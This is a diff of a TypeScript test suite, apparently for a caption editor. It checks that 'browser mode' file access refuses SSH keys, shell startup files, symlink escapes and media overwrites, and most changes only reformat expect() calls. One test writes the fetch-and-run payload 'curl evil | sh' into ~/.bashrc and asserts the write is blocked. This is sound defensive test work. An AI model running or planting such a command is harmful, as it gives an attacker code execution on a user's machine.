@@ -19,7 +19,13 @@ async function homeWithSecrets() {
   return { ...t, home, api, services }
 }
 
-const projectNaming = (media: string) => JSON.stringify(projectToJson({ title: 'Talk', doc: makeDoc([makeCue(1, 'Hi')]), glossary: [], media: { absolutePath: media } }, new Date()))
+const projectNaming = (media: string) =>
+  JSON.stringify(
+    projectToJson(
+      { title: 'Talk', doc: makeDoc([makeCue(1, 'Hi')]), glossary: [], media: { absolutePath: media } },
+      new Date(),
+    ),
+  )
 
 describe('browser mode reaches only what the editor chose', () => {
   // Bug: browser mode granted the whole home folder, so ~/.ssh/id_rsa could be read and ~/.bashrc written.
@@ -28,11 +34,17 @@ describe('browser mode reaches only what the editor chose', () => {
     const key = path.join(home, '.ssh', 'id_rsa')
     const bashrc = path.join(home, '.bashrc')
     expect(await api.readCaptionFile({ path: key })).toMatchObject({ ok: false, code: 'not-allowed' })
-    expect(await api.writeExport({ path: bashrc, text: 'curl evil | sh' })).toMatchObject({ ok: false, code: 'not-allowed' })
+    expect(await api.writeExport({ path: bashrc, text: 'curl evil | sh' })).toMatchObject({
+      ok: false,
+      code: 'not-allowed',
+    })
     expect(await fs.readFile(bashrc, 'utf8')).toBe('echo hello\n')
     expect(await api.pickFile({ path: key })).toMatchObject({ ok: false, code: 'not-allowed' })
     expect(await api.listFolder({ path: path.join(home, '.ssh') })).toMatchObject({ ok: false, code: 'not-allowed' })
-    expect(await api.readCaptionFile({ path: path.join(home, 'notes.vtt') })).toMatchObject({ ok: false, code: 'not-allowed' })
+    expect(await api.readCaptionFile({ path: path.join(home, 'notes.vtt') })).toMatchObject({
+      ok: false,
+      code: 'not-allowed',
+    })
   })
 
   it('grants a picked file for opening, a picked project for writing, and refuses files the chooser never shows', async () => {
@@ -41,10 +53,16 @@ describe('browser mode reaches only what the editor chose', () => {
     await fs.writeFile(path.join(home, 'report.docx'), 'x')
     expect(await api.pickFile({ path: path.join(home, 'notes.vtt') })).toMatchObject({ ok: true })
     expect((await api.readCaptionFile({ path: path.join(home, 'notes.vtt') })).ok).toBe(true)
-    expect(await api.writeExport({ path: path.join(home, 'notes.vtt'), text: 'x' })).toMatchObject({ ok: false, code: 'not-allowed' })
+    expect(await api.writeExport({ path: path.join(home, 'notes.vtt'), text: 'x' })).toMatchObject({
+      ok: false,
+      code: 'not-allowed',
+    })
     expect(await api.pickFile({ path: path.join(home, 'talk.eglur') })).toMatchObject({ ok: true })
     expect(services.access.allows(path.join(home, 'talk.eglur'))).toBe(true)
-    expect(await api.pickFile({ path: path.join(home, 'report.docx') })).toMatchObject({ ok: false, code: 'not-allowed' })
+    expect(await api.pickFile({ path: path.join(home, 'report.docx') })).toMatchObject({
+      ok: false,
+      code: 'not-allowed',
+    })
   })
 
   // Bug: a new file inside a folder that is a symlink to outside the allowed places could be written (the folder's real path was never checked).
@@ -52,7 +70,10 @@ describe('browser mode reaches only what the editor chose', () => {
     const { api, home, root } = await homeWithSecrets()
     await fs.mkdir(path.join(root, 'elsewhere'))
     await fs.symlink(path.join(root, 'elsewhere'), path.join(home, 'linked'))
-    expect(await api.writeExport({ path: path.join(home, 'linked', 'new.vtt'), text: 'x' })).toMatchObject({ ok: false, code: 'not-allowed' })
+    expect(await api.writeExport({ path: path.join(home, 'linked', 'new.vtt'), text: 'x' })).toMatchObject({
+      ok: false,
+      code: 'not-allowed',
+    })
     await expect(fs.access(path.join(root, 'elsewhere', 'new.vtt'))).rejects.toThrow()
   })
 })
@@ -90,7 +111,10 @@ describe("a project's video", () => {
     expect((await api.openMedia({ path: audio })).ok).toBe(true)
     const before = await fs.readFile(audio)
     expect(await api.writeExport({ path: audio, text: 'x' })).toMatchObject({ ok: false, code: 'not-allowed' })
-    expect(await api.createProject({ path: audio, project: JSON.parse(projectNaming(audio)) })).toMatchObject({ ok: false, code: 'not-allowed' })
+    expect(await api.createProject({ path: audio, project: JSON.parse(projectNaming(audio)) })).toMatchObject({
+      ok: false,
+      code: 'not-allowed',
+    })
     expect(await fs.readFile(audio)).toEqual(before)
     // Not chosen by the editor: nothing beside it is offered.
     expect(await api.findProjectBeside({ mediaPath: audio })).toMatchObject({ ok: false, code: 'not-allowed' })
